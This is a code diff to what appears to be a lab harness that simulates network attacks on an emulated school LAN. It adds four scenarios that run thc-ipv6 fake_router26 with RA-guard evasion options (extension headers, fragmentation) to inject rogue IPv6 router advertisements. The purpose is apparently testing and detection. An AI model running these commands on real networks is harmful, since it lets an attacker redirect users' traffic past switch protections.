@@ -992,6 +992,49 @@ def rogue_ra(lan: SchoolLan, small: bool = False) -> Outcome:
     )
 
 
+def _rogue_ra_evading(name: str, evasion: str, what: str):  # type: ignore[no-untyped-def]
+    """fake_router26 with one of its RA-guard evasions: the advertisement behind
+    extension headers or split into fragments, as a switch's RA guard is stepped around."""
+
+    def run(lan: SchoolLan, small: bool = False) -> Outcome:
+        a, victim = lan.attacker, lan.students[0]
+        lan.ipv6(a, ATTACKER6)
+        lan.ipv6(victim, STUDENT6)
+        prefix = "fd77:bad::/64"
+        args = ["-E", evasion, "-A", prefix, "-i", "2", "-n", "5", IF]
+        try:
+            time.sleep(2)  # DAD of the link-local addresses
+            lan.attack_started = time.monotonic()
+            out = _bounded(lan, a.ns, 20, "atk6-fake_router26", *args)
+            link_local = _link_local(lan, a)
+        finally:
+            lan.ipv6(victim, None)
+            lan.ipv6(a, None)
+        return Outcome(
+            name,
+            ("rogue_ra",),
+            "atk6-fake_router26 " + " ".join(args),
+            f"thc-ipv6 fake_router26 -E {evasion}: five router advertisements for {prefix}, {what}",
+            a,
+            "thc-ipv6",
+            notes={"attacker_ip6": link_local, "output_tail": out[-300:]},
+        )
+
+    return run
+
+
+rogue_ra_hop_by_hop = _rogue_ra_evading("rogue_ra_hop_by_hop", "H", "behind a hop-by-hop header")
+rogue_ra_atomic_fragment = _rogue_ra_evading(
+    "rogue_ra_atomic_fragment", "1", "in a one-fragment (atomic) fragment header"
+)
+rogue_ra_fragmented = _rogue_ra_evading(
+    "rogue_ra_fragmented", "D", "behind a destination header so large that it fragments"
+)
+rogue_ra_full_evasion = _rogue_ra_evading(
+    "rogue_ra_full_evasion", "F", "with the full evasion (fragments and extension headers)"
+)
+
+
 def _nd_traffic(lan: SchoolLan, name: str, seconds: int, *cmd: str) -> None:
     """Run an ND spoofing tool on the attacker while student 1 and the server ping each
     other over IPv6, their neighbour caches flushed every 3 s (so that they ask again,
@@ -1350,6 +1393,10 @@ SCENARIOS = {
         Scenario("nd_spoof", ("atk6-parasite6", "ping"), nd_spoof),
         Scenario("sweep_and_scan", ("nmap",), sweep_and_scan),
         Scenario("nd_advertise", ("atk6-fake_advertise6", "ping"), nd_advertise),
+        Scenario("rogue_ra_hop_by_hop", ("atk6-fake_router26",), rogue_ra_hop_by_hop),
+        Scenario("rogue_ra_atomic_fragment", ("atk6-fake_router26",), rogue_ra_atomic_fragment),
+        Scenario("rogue_ra_fragmented", ("atk6-fake_router26",), rogue_ra_fragmented),
+        Scenario("rogue_ra_full_evasion", ("atk6-fake_router26",), rogue_ra_full_evasion),
     ]
 }
 # Password guessing seen in the servers' replies (tests/lab/logins.py)
